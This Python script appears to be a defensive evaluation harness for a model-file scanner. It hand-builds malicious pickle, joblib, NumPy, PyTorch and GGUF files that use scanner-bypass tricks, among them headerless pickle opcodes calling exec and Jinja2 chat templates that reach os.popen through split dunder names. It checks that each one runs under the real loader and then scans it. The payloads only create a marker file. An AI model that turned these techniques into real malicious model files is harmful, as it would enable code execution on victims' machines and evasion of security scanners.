"""Adversarial container samples: bypass techniques against model scanners, proven live, then scanned.

Each malicious sample is built from raw bytes (its payload only creates a marker file in
the working folder) and is *verified* by loading it with the real loader (pickle, joblib,
NumPy with allow_pickle, torch.load(weights_only=False), or an unsandboxed Jinja2 render as
llama-cpp-python < 0.2.72 did) in a subprocess whose working folder is a fresh temporary
folder: the sample counts only if the marker appears. The scanner itself never loads
anything. Benign controls are saved by the real libraries; they must not fail the default
threshold (high).

    .venv/bin/python evals/model_scan/adversarial_containers.py [OUT_DIR]

Techniques (docs/model-scan.md, "Container bypasses"):
 1 pickles without a protocol header (top level, in a PyTorch zip, in legacy torch.save)
 2 safetensors header lengths (absurd, or a length that opens a pickle)
 3 compression joblib accepts (lzma-alone with any dictionary, concatenated streams, legacy ZF)
 4 zip members beyond a look-ahead (bzip2/LZMA members, deflate opening with empty blocks)
 5 the PyTorch "tensor storage under data/" skip applied to other zips
 6 scan budgets (quadratic joblib wrapper streams)
 7 GGUF chat templates building dunder/`os` names from string pieces
"""

from __future__ import annotations

import io
import lzma
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MARKER = "bastion-adversarial-marker"
CODE = f"open({MARKER!r}, 'w').close()"
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C

LOADERS = {
    "pickle": "import pickle, sys\nwith open(sys.argv[1], 'rb') as f:\n    pickle.load(f)",
    "joblib": "import joblib, sys\njoblib.load(sys.argv[1])",
    "numpy": (
        "import numpy as np, sys\nd = np.load(sys.argv[1], allow_pickle=True)\n"
        "[d[k] for k in d.files] if hasattr(d, 'files') else d"
    ),
    "torch": "import torch, sys\ntorch.load(sys.argv[1], weights_only=False)",
    # llama-cpp-python < 0.2.72 rendered GGUF chat templates with an unsandboxed Environment
    "jinja": (
        "import jinja2, struct, sys\nb = open(sys.argv[1], 'rb').read()\n"
        "k = struct.unpack_from('<Q', b, 24)[0]\nn = struct.unpack_from('<Q', b, 36 + k)[0]\n"
        "t = b[44 + k : 44 + k + n].decode()\njinja2.Environment().from_string(t).render(messages=[])"
    ),
}


@dataclass(frozen=True)
class Sample:
    technique: int
    name: str
    data: bytes
    loader: str | None  # None: benign control, or a sample that runs no code (safetensors)
    malicious: bool = True


# ---------------------------------------------------------------------- opcode helpers
def u(s: str) -> bytes:
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def glob(mod: str, name: str) -> bytes:
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def exec_ops(code: str = CODE) -> bytes:
    """builtins.exec(code) in protocol-4 opcodes, no PROTO and no STOP."""
    return u("builtins") + u("exec") + b"\x93" + u(code) + b"\x85R"


def exec_pickle() -> bytes:
    return b"\x80\x02" + glob("builtins", "exec") + u(CODE) + b"\x85R."


def npy(descr: str, shape: tuple[int, ...], body: bytes) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def object_npy() -> bytes:
    """An object array whose element pickle runs the payload (np.load(allow_pickle=True))."""
    return npy("|O", (1,), exec_pickle())


def torch_zip(pkl: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", pkl)
        for k, v in (extra or {}).items():
            z.writestr(f"archive/{k}", v)
        z.writestr("archive/version", b"3\n")
    return buf.getvalue()


def raw_zip(members: list[tuple[str, int, bytes, int, int]]) -> bytes:
    """A zip from already-compressed members: (name, method, payload, crc, usize)."""
    out = bytearray()
    central = bytearray()
    for name, method, payload, crc, usize in members:
        off = len(out)
        nb = name.encode()
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(payload), usize, len(nb), 0)
        out += nb + payload
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, len(payload), usize,
            len(nb), 0, 0, 0, 0, 0, off,
        )  # fmt: skip
        central += nb
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(out), 0)
    return bytes(out + central + eocd)


def gguf(template: str) -> bytes:
    key = b"tokenizer.chat_template"
    val = template.encode()
    kv = struct.pack("<Q", len(key)) + key + struct.pack("<I", 8) + struct.pack("<Q", len(val)) + val
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + kv


def wrapper_stream(n: int, array: bytes, shape: int, dtype: str) -> bytes:
    """joblib's in-stream array layout without alignment padding (older joblib), n wrappers in a list,
    then the payload appended to the same list."""
    state = (
        b"}(" + u("subclass") + glob("numpy", "ndarray") + u("shape") + b"K" + bytes([shape]) + b"\x85"
        + u("order") + u("C") + u("dtype") + glob("numpy", "dtype") + u(dtype) + b"\x89\x88\x87R"
        + u("allow_mmap") + b"\x89u\x94"
    )  # fmt: skip
    head = b"\x80\x04]\x94(" + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b"\x94)\x81" + state + b"b" + array
    return head + (b"h\x01)\x81h\x02b" + array) * n + exec_ops() + b"e."


# ---------------------------------------------------------------------- samples
def _split_streams(compress: Callable[[bytes], bytes], second: Callable[[bytes], bytes] | None = None) -> bytes:
    blob = exec_pickle()
    cut = len(blob) // 2
    return compress(blob[:cut]) + (second or compress)(blob[cut:])


def malicious() -> list[Sample]:
    frame_body = exec_ops() + b"."
    legacy_head = b"\x8a\x0a" + LEGACY_MAGIC.to_bytes(10, "little") + b"." + b"M\xe9\x03." + b"}."
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    deflated_npy = b"\x00\x00\x00\xff\xff" * 20000 + comp.compress(object_npy()) + comp.flush()
    lzma_props = [{"id": lzma.FILTER_LZMA1, "lc": 0, "lp": 2, "pb": 0}]
    storage_pid = b"(" + u("storage") + glob("torch", "FloatStorage") + u("0") + u("cpu") + b"K\x01t"
    storage_pkl = (
        b"\x80\x02" + glob("torch._utils", "_rebuild_tensor_v2") + b"(" + storage_pid + b"QK\x00K\x01\x85K\x01\x85\x89"
        + glob("collections", "OrderedDict") + b")Rtr."
    )  # fmt: skip
    globals_ = "cycler|attr('__in' ~ 'it__')|attr('_'*2 + 'globals' + '_'*2)"
    return [
        Sample(1, "t1_frame_first.pkl", b"\x95" + struct.pack("<Q", len(frame_body)) + frame_body, "pickle"),
        Sample(1, "t1_no_header_binary_opcodes.pkl", exec_ops() + b".", "pickle"),
        Sample(
            1,
            "t1_protocol0_long_first_string.pkl",
            b"S'" + b"a" * 2000 + b"'\n0" + glob("builtins", "exec") + b"(V" + CODE.encode() + b"\ntR.",
            "pickle",
        ),
        Sample(1, "t1_torch_zip_headerless_data_pkl.pt", torch_zip(exec_ops() + b"."), "torch"),
        Sample(1, "t1_legacy_torch_headerless_magic.pt", legacy_head + exec_ops() + b"." + b"].", "torch"),
        Sample(
            2,
            "t2_pickle_with_safetensors_length.safetensors",
            b"\x8c\x09\x00\x00\x00\x00\x00\x00{xx0" + exec_ops() + b"." + b" " * 4000,
            "pickle",
        ),
        Sample(
            2,
            "t2_safetensors_absurd_header_length.safetensors",
            struct.pack("<Q", 2**62) + b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}\0\0\0\0',
            None,
        ),
        Sample(
            3,
            "t3_lzma_alone_dict_0x18000.joblib",
            lzma.compress(
                exec_pickle(), format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 0x18000}]
            ),
            "joblib",
        ),
        Sample(3, "t3_xz_two_streams.joblib", _split_streams(lzma.compress), "joblib"),
        Sample(
            3,
            "t3_lzma_second_stream_other_properties.joblib",
            _split_streams(
                lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE),
                lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE, filters=lzma_props),
            ),
            "joblib",
        ),
        Sample(
            3,
            "t3_joblib_legacy_zf.pkl",
            b"ZF" + hex(len(exec_pickle())).encode().ljust(19) + zlib.compress(exec_pickle()),
            "joblib",
        ),
        Sample(
            3,
            "t3_joblib_legacy_zf_space.pkl",
            b"ZF" + hex(len(exec_pickle())).encode().ljust(19) + b" " + zlib.compress(exec_pickle()),
            "joblib",
        ),
        Sample(4, "t4_npz_bzip2_member.npz", _zip_of({"w.npy": object_npy()}, zipfile.ZIP_BZIP2), "numpy"),
        Sample(4, "t4_npz_lzma_member.npz", _zip_of({"w.npy": object_npy()}, zipfile.ZIP_LZMA), "numpy"),
        Sample(
            4,
            "t4_npz_deflate_empty_blocks.npz",
            raw_zip([("w.npy", 8, deflated_npy, zlib.crc32(object_npy()), len(object_npy()))]),
            "numpy",
        ),
        Sample(
            5,
            "t5_npz_object_array_under_data.npz",
            _zip_of({"data.pkl": b"\x80\x04K\x01.", "data/w.npy": object_npy()}),
            "numpy",
        ),
        Sample(5, "t5_torch_storage_is_an_npy.npz", torch_zip(storage_pkl, {"data/0": object_npy()}), "numpy"),
        Sample(6, "t6_joblib_empty_wrappers.joblib", wrapper_stream(8000, b"", 0, "f8"), "joblib"),
        Sample(6, "t6_joblib_opcode_arrays.joblib", wrapper_stream(8000, b"N", 1, "u1"), "joblib"),
        Sample(
            7,
            "t7_set_names_as_subscript_keys.gguf",
            gguf(
                "{% set a = '__in' ~ 'it__' %}{% set g = '_'*2 + 'globals' + '_'*2 %}{% set o = 'o' ~ 's' %}"
                "{% set p = 'po' ~ 'pen' %}{{ cycler[a][g][o][p]('touch " + MARKER + "').read() }}"
            ),
            "jinja",
        ),
        Sample(
            7,
            "t7_concat_subscript.gguf",
            gguf("{% set n = 'o' ~ 's' %}{{ (" + globals_ + ")[n]|attr('sys' ~ 'tem')('touch " + MARKER + "') }}"),
            "jinja",
        ),
        Sample(
            7,
            "t7_set_block_names.gguf",
            gguf(
                "{% set g %}__glo{% endset %}{% set g = g ~ 'bals__' %}"
                "{{ (cycler|attr('_'*2 ~ 'init' ~ '_'*2)|attr(g))['o' ~ 's'].popen('touch " + MARKER + "').read() }}"
            ),
            "jinja",
        ),
        Sample(
            7,
            "t7_map_attribute.gguf",
            gguf(
                "{% for g in [cycler|attr('__in' ~ 'it__')]|map(attribute='__glo' ~ 'bals__') %}"
                "{{ g['o' ~ 's'].popen('touch " + MARKER + "').read() }}{% endfor %}"
            ),
            "jinja",
        ),
    ]


def _zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for k, v in members.items():
            z.writestr(k, v)
    return buf.getvalue()


def benign() -> list[Sample]:
    import joblib
    import numpy as np
    import torch

    out: list[Sample] = []

    def saved(name: str, technique: int, save: Callable[[io.BytesIO], object]) -> None:
        buf = io.BytesIO()
        save(buf)
        out.append(Sample(technique, name, buf.getvalue(), None, malicious=False))

    arrays = {"w": np.arange(12.0).reshape(3, 4), "e": [np.empty(0) for _ in range(200)]}
    for c in (0, "zlib", "gzip", "bz2", "lzma", "xz"):
        buf = io.BytesIO()
        joblib.dump(arrays, buf, compress=c)
        out.append(Sample(3, f"b3_joblib_{c}.joblib", buf.getvalue(), None, malicious=False))
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    saved("b1_torch_zip.pt", 1, lambda b: torch.save(net.state_dict(), b))
    saved("b1_torch_legacy.pt", 1, lambda b: torch.save(net.state_dict(), b, _use_new_zipfile_serialization=False))
    saved("b5_torchscript.pt", 5, lambda b: torch.jit.save(torch.jit.script(net), b))
    saved("b4_npz_compressed.npz", 4, lambda b: np.savez_compressed(b, a=np.arange(3000), b=np.ones(4)))
    out.append(
        Sample(4, "b4_npz_bzip2.npz", _zip_of({"a.npy": npy("<f8", (4,), b"\0" * 32)}, zipfile.ZIP_BZIP2), None, False)
    )
    out.append(
        Sample(
            7,
            "b7_chatml_template.gguf",
            gguf(
                "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content']"
                " + '<|im_end|>\\n' }}{% if messages[loop.index0 - 1]['role'] == 'user' %}{% endif %}{% endfor %}"
                "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
            ),
            None,
            False,
        )
    )
    return out


# ---------------------------------------------------------------------- verification and scanning
def verify(sample: Sample, path: Path) -> bool:
    """Load the sample with its real loader in a throwaway folder; True when the marker appeared."""
    assert sample.loader is not None
    with tempfile.TemporaryDirectory(prefix="bastion-adv-") as tmp:
        target = Path(tmp) / path.name
        target.write_bytes(path.read_bytes())
        try:
            subprocess.run(
                [sys.executable, "-c", LOADERS[sample.loader], target.name],
                cwd=tmp,
                capture_output=True,
                timeout=120,
                check=False,
            )
        except subprocess.TimeoutExpired:
            return False
        return (Path(tmp) / MARKER).exists()


def main(out_dir: Path) -> int:
    from bastion.core.types import Severity
    from bastion.model.scan import scan_file

    samples = malicious() + benign()
    rows: list[tuple[Sample, str, bool, str, float]] = []
    for s in samples:
        folder = out_dir / ("malicious" if s.malicious else "benign")
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / s.name
        path.write_bytes(s.data)
        verified = "n/a" if s.loader is None else ("yes" if verify(s, path) else "NO")
        t0 = time.perf_counter()
        findings = scan_file(path)
        seconds = time.perf_counter() - t0
        fails = any(f.severity >= Severity.HIGH for f in findings)
        top = max(findings, key=lambda f: f.severity).rule_id if findings else "-"
        rows.append((s, verified, fails, top, seconds))
    print(f"{'technique':<4} {'sample':<48} {'loader runs it':<15} {'scan fails it':<14} {'top rule':<34} seconds")
    for s, verified, fails, top, seconds in rows:
        print(f"{s.technique:<9} {s.name:<48} {verified:<15} {fails!s:<14} {top:<34} {seconds:.3f}")
    bad = [s for s, *_ in rows if s.malicious]
    caught = sum(1 for s, _v, f, *_ in rows if s.malicious and f)
    unverified = [s.name for s, v, *_ in rows if s.malicious and v == "NO"]
    good = [s for s, *_ in rows if not s.malicious]
    false_pos = sum(1 for s, _v, f, *_ in rows if not s.malicious and f)
    print(f"\nmalicious detected (fails the default threshold): {caught}/{len(bad)}")
    print(f"benign failing the default threshold: {false_pos}/{len(good)}")
    if unverified:
        print(f"NOT verified under the real loader (generator bug): {', '.join(unverified)}")
    return 1 if unverified or caught < len(bad) or false_pos else 0


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else tempfile.mkdtemp(prefix="bastion-adversarial-"))
    sys.exit(main(target))
